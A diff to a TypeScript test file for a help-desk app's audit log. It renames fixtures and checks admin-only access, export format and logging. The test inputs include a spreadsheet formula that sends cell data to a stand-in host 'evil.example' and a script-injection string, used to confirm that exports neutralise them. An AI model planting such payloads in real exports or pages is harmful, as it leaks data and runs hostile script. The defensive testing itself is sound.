@@ -2,18 +2,18 @@ import { beforeEach, describe, expect, test } from 'vitest';
 import type { AuditChange } from '../../shared/audit/audit.ts';
 import { csvField } from '../../shared/audit/audit-export.ts';
 import { expectUsableInBrowser, expectWhole } from '../harness/browser/check-drawn.ts';
-import { fillDesk } from '../harness/memory/sample-mail.ts';
-import { NOW, type SampleDesk, sampleDesk } from '../harness/pages/sample-desk.ts';
+import { fillPostroom } from '../harness/memory/sample-mail.ts';
+import { NOW, type SamplePostroom, samplePostroom } from '../harness/pages/sample-postroom.ts';
 
 const formula = '=HYPERLINK("https://evil.example/?"&A1)';
 const evil = '"><script>alert(1)</script>';
 
-let desk: SampleDesk;
+let postroom: SamplePostroom;
 beforeEach(() => {
-  desk = sampleDesk();
+  postroom = samplePostroom();
 });
 const record = (minutesAgo: number, change: Partial<AuditChange> = {}): Promise<void> =>
-  desk.audit.record({
+  postroom.audit.record({
     at: NOW - minutesAgo * 60_000,
     principal: { id: '11111111-2222-4333-8444-555555555555', name: 'Mira Sund' },
     action: 'changed',
@@ -22,7 +22,7 @@ const record = (minutesAgo: number, change: Partial<AuditChange> = {}): Promise<
     after: { name: 'Contoso Ltd', 'client ID': '9c1c5a3e-8a7b-4f6e-9d43-0b6f3a6f5a10' },
     ...change,
   });
-const html = async (path: string): Promise<string> => (await desk.ask(path, { role: 'admin' })).text();
+const html = async (path: string): Promise<string> => (await postroom.ask(path, { role: 'admin' })).text();
 
 describe('the page of changes', () => {
   test('says who changed what, and what stood there before', async () => {
@@ -70,7 +70,7 @@ describe('the page of changes', () => {
 
   test('is for admins alone', async () => {
     for (const path of ['/audit', '/audit/export.csv', '/audit/export.json'])
-      expect((await desk.ask(path, { role: 'agent' })).status).toBe(403);
+      expect((await postroom.ask(path, { role: 'agent' })).status).toBe(403);
   });
 });
 
@@ -78,7 +78,7 @@ describe('the export', () => {
   test('as CSV has a line a setting, and nothing in it is a formula', async () => {
     await record(5);
     await record(4, { subject: { kind: 'mailbox', id: 'm1', name: formula }, after: { name: '\t@SUM(A1)' } });
-    const answer = await desk.ask('/audit/export.csv', { role: 'admin' });
+    const answer = await postroom.ask('/audit/export.csv', { role: 'admin' });
     expect(answer.headers.get('content-type')).toBe('text/csv');
     expect(answer.headers.get('content-disposition')).toContain('attachment; filename="postroom-audit.csv"');
     const lines = Buffer.from(await answer.arrayBuffer())
@@ -103,8 +103,8 @@ describe('the export', () => {
   );
 
   test.each(['csv', 'json'])('as %s is itself a line of the log, with what was chosen', async (format) => {
-    await desk.ask(`/audit/export.${format}?kind=mailbox`, { role: 'admin' });
-    const [entry] = (await desk.audit.page({ limit: 5 })).entries;
+    await postroom.ask(`/audit/export.${format}?kind=mailbox`, { role: 'admin' });
+    const [entry] = (await postroom.audit.page({ limit: 5 })).entries;
     expect(entry).toMatchObject({
       action: 'exported',
       subject: { kind: 'audit' },
@@ -119,7 +119,7 @@ describe('the export', () => {
     await record(5);
     await record(4, { subject: { kind: 'mailbox', id: 'm1', name: 'support@contoso.example' } });
     const entries: unknown = await (
-      await desk.ask('/audit/export.json?kind=mailbox', { role: 'admin' })
+      await postroom.ask('/audit/export.json?kind=mailbox', { role: 'admin' })
     ).json();
     expect(entries).toEqual([
       expect.objectContaining({
@@ -131,15 +131,15 @@ describe('the export', () => {
         ],
       }),
     ]);
-    expect(await (await desk.ask('/audit/export.json?kind=notice', { role: 'admin' })).json()).toEqual([]);
+    expect(await (await postroom.ask('/audit/export.json?kind=alert', { role: 'admin' })).json()).toEqual([]);
   });
 });
 
 test('closing and opening a ticket is a change, doing so twice is none', async () => {
-  const { conversation } = await fillDesk(desk);
+  const { conversation } = await fillPostroom(postroom);
   for (const step of ['close', 'close', 'reopen'])
-    await desk.ask(`/tickets/${conversation}/${step}`, { method: 'POST' });
-  const { entries } = await desk.audit.page({ kind: 'ticket', limit: 10 });
+    await postroom.ask(`/tickets/${conversation}/${step}`, { method: 'POST' });
+  const { entries } = await postroom.audit.page({ kind: 'ticket', limit: 10 });
   expect(entries.map(({ action, subject, changes }) => [action, subject.id, changes])).toEqual([
     ['reopened', conversation, [{ name: 'status', before: 'closed', after: 'open' }]],
     ['closed', conversation, [{ name: 'status', before: 'open', after: 'closed' }]],
